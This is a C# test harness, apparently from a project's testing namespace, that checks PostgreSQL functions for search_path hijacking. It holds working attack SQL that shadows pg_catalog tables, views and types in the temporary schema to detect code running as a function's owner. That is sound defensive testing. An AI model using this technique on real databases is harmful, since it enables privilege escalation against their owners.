using Npgsql;

namespace Capsule.Testing;

/// <summary>
/// Tries to run code as a function's owner: every type, table and view of <c>pg_catalog</c> gets a namesake in the caller's temporary
/// schema, which PostgreSQL searches first unless a <c>search_path</c> names it last.
/// </summary>
/// <param name="Roles">The roles that the attacker's function ran as, apart from the attacker.</param>
/// <param name="Errors">The calls that failed, each with its error.</param>
public sealed record TemporaryObjectAttack(IReadOnlyList<string> Roles, IReadOnlyList<string> Errors)
{
    // A warning reaches the client even when the transaction is rolled back.
    private const string Shadow = """
        create function pg_temp.evil() returns boolean language plpgsql as $$
        begin
            if current_user <> session_user then
                raise warning 'ran as %', current_user;
            end if;
            return true;
        end $$;
        do $do$
        declare
            victim pg_catalog.text;
        begin
            for victim in select c.relname from pg_catalog.pg_class c
                           where c.relnamespace = 'pg_catalog'::pg_catalog.regnamespace and c.relkind in ('r', 'v') loop
                begin
                    execute format('create view pg_temp.%1$I as select * from pg_catalog.%1$I where pg_temp.evil()', victim);
                    execute format('grant all on pg_temp.%I to public', victim);
                exception when others then
                    raise notice '%', sqlerrm;
                end;
            end loop;
            for victim in select t.typname from pg_catalog.pg_type t
                           where t.typnamespace = 'pg_catalog'::pg_catalog.regnamespace and t.typtype in ('b', 'r') and t.typcategory <> 'A' loop
                begin
                    execute format('create domain pg_temp.%1$I as pg_catalog.%1$I check (pg_temp.evil())', victim);
                exception when others then
                    raise notice '%', sqlerrm;
                end;
            end loop;
        end
        $do$
        """;

    /// <summary>Runs calls as the attacker, who has the privilege TEMPORARY, one by one.</summary>
    public static async Task<TemporaryObjectAttack> RunAsync(string attackerConnectionString, IEnumerable<string> calls)
    {
        var roles = new List<string>();
        var errors = new List<string>();
        await using var connection = new NpgsqlConnection(
            new NpgsqlConnectionStringBuilder(attackerConnectionString) { Pooling = false }.ConnectionString
        );
        connection.Notice += (_, notice) =>
        {
            if (notice.Notice.MessageText.StartsWith("ran as ", StringComparison.Ordinal))
            {
                roles.Add(notice.Notice.MessageText["ran as ".Length..]);
            }
        };
        await connection.OpenAsync();
        await ExecuteAsync(connection, Shadow);
        foreach (var call in calls)
        {
            try
            {
                await ExecuteAsync(connection, call);
            }
            catch (PostgresException exception)
            {
                errors.Add($"{call}: {exception.MessageText}");
            }
        }

        return new TemporaryObjectAttack([.. roles.Distinct()], errors);
    }

    private static async Task ExecuteAsync(NpgsqlConnection connection, string sql)
    {
        await using var command = new NpgsqlCommand(sql, connection);
        await command.ExecuteNonQueryAsync();
    }
}
